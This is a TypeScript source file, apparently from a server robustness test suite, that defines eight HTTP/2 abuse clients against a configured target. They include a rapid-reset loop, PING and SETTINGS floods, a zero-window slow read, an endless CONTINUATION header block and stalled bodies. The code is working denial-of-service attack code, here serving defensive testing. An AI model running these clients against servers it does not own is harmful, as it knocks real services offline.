import { setTimeout as wait } from 'node:timers/promises';
import type { TLSSocket } from 'node:tls';
import { block, Code, Flag, Frame, frame, PREFACE, setting, uint32 } from '../support/raw-http2.ts';
import { type Attack, held, type Life, openTls, repeat } from './attack.ts';

const INITIAL_WINDOW_SIZE = 4;

/** An HTTP/2 connection after its preface. */
async function open(life: Life, settings: Buffer | string = ''): Promise<TLSSocket> {
  const socket = await openTls(life.target.httpsPort, life.target.host, life, 'h2');
  socket.write(PREFACE, 'latin1');
  socket.write(frame(Frame.settings, 0, 0, settings));
  return socket;
}

function request(stream: number, path: string, { target }: Life, flags: number = Flag.endStream): Buffer {
  const fields = block([
    [':method', 'GET'],
    [':scheme', 'https'],
    [':authority', target.host],
    [':path', path],
  ]);
  return frame(Frame.headers, Flag.endHeaders | flags, stream, fields);
}

const odd = (index: number) => 2 * index + 1;
const many = (count: number, make: (stream: number) => Buffer) =>
  Buffer.concat(Array.from({ length: count }, (_, index) => make(odd(index))));
const ping = frame(Frame.ping, 0, 0, Buffer.alloc(8));

/** Clients that abuse HTTP/2. */
export const HTTP2_ATTACKS: Attack[] = [
  {
    name: 'HTTP/2: 100 requests, a window of 0, and PINGs',
    width: 10,
    async live(life) {
      const socket = await open(life, setting(INITIAL_WINDOW_SIZE, 0));
      socket.write(many(100, (stream) => request(stream, '/bytes/100000', life)));
      await repeat(socket, 5000, () => socket.write(ping));
    },
  },
  {
    name: 'HTTP/2: window of 0, raised by one byte a second',
    width: 5,
    async live(life) {
      const socket = await open(life, setting(INITIAL_WINDOW_SIZE, 0));
      socket.write(many(50, (stream) => request(stream, '/bytes/100000', life)));
      const drip = many(50, (stream) => frame(Frame.windowUpdate, 0, stream, uint32(1)));
      await repeat(socket, 1000, () => socket.write(drip));
    },
  },
  {
    name: 'HTTP/2: DATA after the end of a request, and gone',
    width: 20,
    async live(life) {
      const socket = await open(life);
      socket.write(request(1, '/wait/30000', life));
      socket.write(frame(Frame.data, 0, 1, 'more'));
      await wait(500);
      socket.destroy();
    },
  },
  {
    name: 'HTTP/2: requests that are reset at once',
    width: 5,
    async live(life) {
      const socket = await open(life);
      let next = 0;
      await repeat(socket, 20, () => {
        const reset = (stream: number) => frame(Frame.reset, 0, stream, uint32(Code.cancel));
        const pairs = Array.from({ length: 100 }, () => {
          const stream = odd(next++);
          return Buffer.concat([request(stream, '/bytes/10', life), reset(stream)]);
        });
        socket.write(Buffer.concat(pairs));
      });
    },
  },
  {
    name: 'HTTP/2: PINGs whose answers are not read',
    width: 5,
    async live(life) {
      const socket = await open(life);
      const flood = Buffer.concat(Array.from({ length: 1000 }, () => ping));
      await repeat(socket, 10, () => socket.write(flood), { reads: false });
    },
  },
  {
    name: 'HTTP/2: SETTINGS without end',
    width: 5,
    async live(life) {
      const socket = await open(life);
      const flood = Buffer.concat(Array.from({ length: 1000 }, () => frame(Frame.settings, 0, 0)));
      await repeat(socket, 10, () => socket.write(flood));
    },
  },
  {
    name: 'HTTP/2: header block without end',
    width: 10,
    async live(life) {
      const socket = await open(life);
      socket.write(frame(Frame.headers, 0, 1, block([[':method', 'GET']])));
      const piece = frame(Frame.continuation, 0, 1, block([['x-much', 'x'.repeat(8000)]]));
      await repeat(socket, 20, () => socket.write(piece));
    },
  },
  {
    name: 'HTTP/2: body that stops',
    width: 10,
    async live(life) {
      const socket = await open(life);
      socket.write(many(100, (stream) => request(stream, '/', life, 0)));
      await held(socket);
    },
  },
];
